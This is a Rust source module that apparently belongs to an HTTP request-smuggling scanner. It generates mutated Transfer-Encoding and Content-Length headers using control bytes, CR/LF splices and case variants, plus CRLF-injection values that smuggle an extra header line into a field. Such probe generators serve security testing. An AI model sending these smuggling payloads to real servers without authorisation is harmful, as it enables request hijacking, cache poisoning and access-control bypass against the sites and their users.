//! Header mutation generators.
//!
//! Output is a map from header name to candidate values, both raw byte
//! strings: a single high byte stays a single byte on the wire, and embedded
//! CR/LF survive untouched. Probes must not rely on iteration order.

use std::collections::HashMap;
use std::fmt;

use desync_core::settings::Level;

pub type MutationMap = HashMap<Vec<u8>, Vec<Vec<u8>>>;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadKind {
    Te,
    Cl,
    Crlf,
}

impl PayloadKind {
    pub fn as_str(self) -> &'static str {
        match self {
            PayloadKind::Te => "TE",
            PayloadKind::Cl => "CL",
            PayloadKind::Crlf => "CRLF",
        }
    }
}

impl fmt::Display for PayloadKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

const TE_NAME: &[u8] = b"Transfer-Encoding";
const CL_NAME: &[u8] = b"Content-Length";

/// Control and high bytes that header parsers most often disagree on.
const PROBE_BYTES: [u8; 13] = [
    0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff,
];

pub fn generate(kind: PayloadKind, level: Level) -> MutationMap {
    match (kind, level) {
        (PayloadKind::Te, Level::Basic) => te_basic(),
        (PayloadKind::Te, Level::Double) => te_double(),
        (PayloadKind::Te, Level::Exhaustive) => te_exhaustive(),
        (PayloadKind::Cl, Level::Basic) => cl_basic(),
        (PayloadKind::Cl, Level::Double) => cl_double(),
        (PayloadKind::Cl, Level::Exhaustive) => cl_exhaustive(),
        (PayloadKind::Crlf, level) => crlf(level),
    }
}

fn push(map: &mut MutationMap, name: impl AsRef<[u8]>, value: impl AsRef<[u8]>) {
    map.entry(name.as_ref().to_vec())
        .or_default()
        .push(value.as_ref().to_vec());
}

/// `pre + byte + post`.
fn splice(pre: &[u8], c: u8, post: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(pre.len() + 1 + post.len());
    out.extend_from_slice(pre);
    out.push(c);
    out.extend_from_slice(post);
    out
}

/// `byte + mid + byte`.
fn wrap(mid: &[u8], c: u8) -> Vec<u8> {
    let mut out = Vec::with_capacity(mid.len() + 2);
    out.push(c);
    out.extend_from_slice(mid);
    out.push(c);
    out
}

fn double_range() -> impl Iterator<Item = u8> {
    (0x01u16..0x21).chain(0x7f..0x100).map(|c| c as u8)
}

fn exhaustive_range() -> impl Iterator<Item = u8> {
    (0x01u16..0x20).chain(0x7f..0x100).map(|c| c as u8)
}

fn te_basic() -> MutationMap {
    let mut m = MutationMap::new();

    // Hand-crafted name/value perturbations.
    push(&mut m, TE_NAME, b" chunked");
    push(&mut m, b" Transfer-Encoding", b" chunked");
    push(&mut m, TE_NAME, b"\tchunked");
    push(&mut m, b"Transfer-Encoding\t", b"\tchunked");
    push(&mut m, b" Transfer-Encoding ", b" chunked");

    for &c in &PROBE_BYTES {
        // Value-side placements under the canonical name.
        push(&mut m, TE_NAME, splice(b"", c, b"chunked"));
        push(&mut m, TE_NAME, splice(b" chunked", c, b""));
        push(&mut m, TE_NAME, splice(b" chunked", c, b"X: X"));
        push(&mut m, TE_NAME, splice(b" chunked\r", c, b"X"));
        push(&mut m, TE_NAME, splice(b" chunked", c, b"\nX: X"));
        // Name-side placements with a plain value.
        push(&mut m, splice(b"Transfer-Encoding", c, b""), b" chunked");
        push(&mut m, splice(b"", c, b"Transfer-Encoding"), b" chunked");
        push(&mut m, splice(b"X: X", c, b"Transfer-Encoding"), b" chunked");
        push(&mut m, splice(b"X: X\r", c, b"Transfer-Encoding"), b" chunked");
        push(&mut m, splice(b"X: X", c, b"\nTransfer-Encoding"), b" chunked");
    }
    m
}

fn te_double() -> MutationMap {
    let mut m = MutationMap::new();
    for c in double_range() {
        let name_pre = splice(b"", c, TE_NAME);
        let name_post = splice(TE_NAME, c, b"");

        push(&mut m, wrap(TE_NAME, c), b"chunked");
        push(&mut m, &name_pre, splice(b"", c, b"chunked"));
        push(&mut m, &name_pre, splice(b" chunked", c, b""));
        push(&mut m, &name_post, splice(b"", c, b"chunked"));
        push(&mut m, &name_post, splice(b" chunked", c, b""));
        push(&mut m, TE_NAME, wrap(b"chunked", c));
    }
    m
}

fn te_exhaustive() -> MutationMap {
    let mut m = MutationMap::new();

    push(&mut m, b" Transfer-Encoding", b" chunked");
    push(&mut m, TE_NAME, b"\tchunked");
    push(&mut m, b"Transfer-Encoding\t", b"\tchunked");
    push(&mut m, b"Transfer Encoding", b" chunked");
    push(&mut m, b"Transfer_Encoding", b" chunked");
    push(&mut m, b"Transfer Encoding", b"chunked");
    push(&mut m, b"Transfer-Encoding ", b"chunked");
    push(&mut m, TE_NAME, b"  chunked");
    push(&mut m, TE_NAME, b"\x0bchunked");
    push(&mut m, TE_NAME, b" chunked, cow");
    push(&mut m, TE_NAME, b" cow, chunked");
    push(&mut m, b"Content-Encoding", b" chunked");
    push(&mut m, TE_NAME, b"\n chunked");
    push(&mut m, TE_NAME, b" \"chunked\"");
    push(&mut m, TE_NAME, b" 'chunked'");
    push(&mut m, TE_NAME, b" chunk");
    push(&mut m, b"TrAnSFer-EnCODinG", b" cHuNkeD");
    push(&mut m, b"TRANSFER-ENCODING", b" CHUNKED");
    push(&mut m, TE_NAME, b" chunked\r");
    push(&mut m, TE_NAME, b" chunked\t");
    push(&mut m, TE_NAME, b" cow\r\nTransfer-Encoding: chunked");
    push(&mut m, b"Transfer\r-Encoding", b" chunked");
    push(&mut m, TE_NAME, b" cow chunked bar");
    push(&mut m, TE_NAME, b"\xffchunked");
    push(&mut m, TE_NAME, b" ch\x96nked");
    push(&mut m, b"Transf\x82r-Encoding", b" chunked");
    push(&mut m, b"X:X\rTransfer-Encoding", b" chunked");
    push(&mut m, b"X:X\nTransfer-Encoding", b" chunked");

    for c in exhaustive_range() {
        push(&mut m, TE_NAME, splice(b"", c, b"chunked"));
        push(&mut m, TE_NAME, splice(b" chunked", c, b""));
        push(&mut m, splice(TE_NAME, c, b""), b" chunked");
        push(&mut m, splice(b"", c, TE_NAME), b" chunked");
    }
    m
}

fn cl_basic() -> MutationMap {
    let mut m = MutationMap::new();
    push(&mut m, CL_NAME, CL_NAME);
    push(&mut m, CL_NAME, b" Content-Length");
    push(&mut m, CL_NAME, b"Content-Length\t");
    push(&mut m, CL_NAME, b" Content-Length ");
    for &c in &PROBE_BYTES {
        push(&mut m, CL_NAME, splice(CL_NAME, c, b""));
        push(&mut m, CL_NAME, splice(b"", c, CL_NAME));
        push(&mut m, CL_NAME, splice(b"X: X", c, CL_NAME));
        push(&mut m, CL_NAME, splice(b"X: X\r", c, CL_NAME));
        push(&mut m, CL_NAME, splice(b"X: X", c, b"\nContent-Length"));
    }
    m
}

fn cl_double() -> MutationMap {
    let mut m = MutationMap::new();
    for c in double_range() {
        push(&mut m, CL_NAME, wrap(CL_NAME, c));
        push(&mut m, CL_NAME, splice(b"", c, CL_NAME));
        push(&mut m, CL_NAME, splice(CL_NAME, c, b""));
    }
    m
}

fn cl_exhaustive() -> MutationMap {
    let mut m = MutationMap::new();
    push(&mut m, CL_NAME, b" Content-Length");
    push(&mut m, CL_NAME, b"Content-Length\t");
    push(&mut m, CL_NAME, b"Content Length");
    push(&mut m, CL_NAME, b"Content_Length");
    push(&mut m, CL_NAME, b"Content-Length ");
    push(&mut m, CL_NAME, b"CoNtENt-LeNGTh");
    push(&mut m, CL_NAME, b"CONTENT-LENGTH");
    push(&mut m, CL_NAME, b"Content\r-Length");
    push(&mut m, CL_NAME, b"Cont\x82nt-Length");
    push(&mut m, CL_NAME, b"X: X\rContent-Length");
    push(&mut m, CL_NAME, b"X: X\nContent-Length");
    for c in exhaustive_range() {
        push(&mut m, CL_NAME, splice(CL_NAME, c, b""));
        push(&mut m, CL_NAME, splice(b"", c, CL_NAME));
    }
    m
}

/// CRLF-injection candidates composed from the CL and TE generators: a dummy
/// `A` value, a CRLF, then the injected header line. CL-derived entries ride
/// under `Test1` (their value still needs a length appended by the probe),
/// TE-derived ones under `Test`.
fn crlf(level: Level) -> MutationMap {
    let mut m = MutationMap::new();
    for values in generate(PayloadKind::Cl, level).into_values() {
        for v in values {
            let mut line = b"A\r\n".to_vec();
            line.extend_from_slice(&v);
            push(&mut m, b"Test1", line);
        }
    }
    for (name, values) in generate(PayloadKind::Te, level) {
        for v in values {
            let mut line = b"A\r\n".to_vec();
            line.extend_from_slice(&name);
            line.push(b':');
            line.extend_from_slice(&v);
            push(&mut m, b"Test", line);
        }
    }
    m
}
